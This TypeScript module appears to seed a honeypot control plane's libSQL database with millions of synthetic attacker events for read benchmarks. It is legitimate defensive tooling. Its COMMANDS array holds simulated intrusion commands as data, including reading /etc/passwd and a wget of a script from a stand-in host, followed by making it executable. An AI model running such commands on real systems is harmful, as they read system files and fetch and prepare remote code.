// Fast seeding for read benchmarks: millions of events written straight into the control plane's
// libSQL file by one INSERT ... SELECT per 100,000 rows (SQLite generates them; no per-row JS),
// with the bench generator's shape: 6 deckies, ssh/http, 10-event connections, 20,000 addresses.
import Database from 'libsql';

const CHUNK = 100_000;
const COMMANDS = ['uname -a', 'id', 'cat /etc/passwd', 'wget http://203.0.113.9/x.sh', 'chmod +x x.sh', 'ps aux', 'crontab -l'];

/** Appends `count` events with ids seed-<from>.. to the events table of `file`; returns rows/s. */
export function seedEvents(file: string, from: number, count: number, attackers = 20_000): number {
  const db = new Database(file);
  db.exec('PRAGMA busy_timeout = 30000; PRAGMA synchronous = NORMAL');
  const base = Date.now() - 3_600_000;
  const cmd = `CASE i % 7 ${COMMANDS.map((c, k) => `WHEN ${k} THEN '${c}'`).join(' ')} END`;
  const stmt = db.prepare(`
    WITH RECURSIVE n(i) AS (SELECT ? UNION ALL SELECT i + 1 FROM n WHERE i < ?),
    r AS (SELECT i, ((i / 10) * 2654435761) % ${attackers} AS a,
                 CASE (i / 10) % 6 WHEN 0 THEN 'web-01' WHEN 1 THEN 'web-02' WHEN 2 THEN 'db-01' WHEN 3 THEN 'mail-01' WHEN 4 THEN 'files-01' ELSE 'iot-01' END AS decky,
                 CASE WHEN (i / 10) % 5 = 4 THEN 'http' ELSE 'ssh' END AS service FROM n),
    e AS (SELECT i, decky, service, '10.' || ((a >> 16) & 255) || '.' || ((a >> 8) & 255) || '.' || (a & 255) AS ip,
                 CASE WHEN service = 'http' THEN 'request' WHEN i % 10 = 0 THEN 'connect' WHEN i % 10 < 7 THEN 'auth_attempt' WHEN i % 10 < 9 THEN 'command' ELSE 'disconnect' END AS type FROM r)
    INSERT INTO events (id, host_id, ts_ms, received_at_ms, decky, service, event_type, src_ip, src_port, fields_json, msg, raw)
    SELECT 'seed-' || i, NULL, ? + i * 3, ?, decky, service, type, ip, 30000 + i % 30000,
           CASE type WHEN 'command' THEN json_object('session_id', 's' || (i / 10), 'cmd', ${cmd}) ELSE json_object('session_id', 's' || (i / 10)) END, NULL,
           '<134>1 - ' || decky || ' ' || service || ' - ' || type || ' [relay@55555 src_ip="' || ip || '"' || CASE type WHEN 'command' THEN ' cmd="' || ${cmd} || '"' ELSE '' END || ']'
    FROM e`);
  const t0 = performance.now();
  for (let i = from; i < from + count; i += CHUNK) {
    const end = Math.min(from + count, i + CHUNK) - 1;
    db.exec('BEGIN IMMEDIATE');
    stmt.run(i, end, base, base);
    db.exec('COMMIT');
  }
  db.close();
  return count / ((performance.now() - t0) / 1000);
}
